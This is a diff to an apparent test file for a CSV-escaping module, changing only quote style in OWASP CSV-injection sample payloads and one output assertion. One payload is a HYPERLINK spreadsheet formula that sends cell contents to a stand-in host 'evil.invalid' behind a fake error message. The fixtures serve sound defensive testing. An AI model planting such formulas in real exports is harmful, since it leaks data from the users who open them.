@@ -12,8 +12,8 @@ from hotline.core import csv as safe_csv
 # OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): its example payloads, and the
 # characters it names (=, +, -, @, tab, carriage return), with the line feed and NUL of issue 12.
 OWASP_PAYLOADS = [
-    "=HYPERLINK(\"http://evil.invalid?leak=\"&A1&A2, \"Error fetching info: Click me to resolve.\")",
-    "=1+2\";=1+2",
+    '=HYPERLINK("http://evil.invalid?leak="&A1&A2, "Error fetching info: Click me to resolve.")',
+    '=1+2";=1+2',
     "=1+2'\" ;,=1+2",
     "+1+2",
     "-1+2",
@@ -62,4 +62,4 @@ def test_write_rows(tmp_path) -> None:
     path = tmp_path / "out.csv"
     with open(path, "w", encoding="utf-8", newline="") as f:
         assert safe_csv.write_rows(f, [["a", "=b"], ["c;d", None]]) == 2
-    assert path.read_bytes().decode("utf-8") == "a,'=b\r\n\"c;d\",\r\n"
+    assert path.read_bytes().decode("utf-8") == 'a,\'=b\r\n"c;d",\r\n'
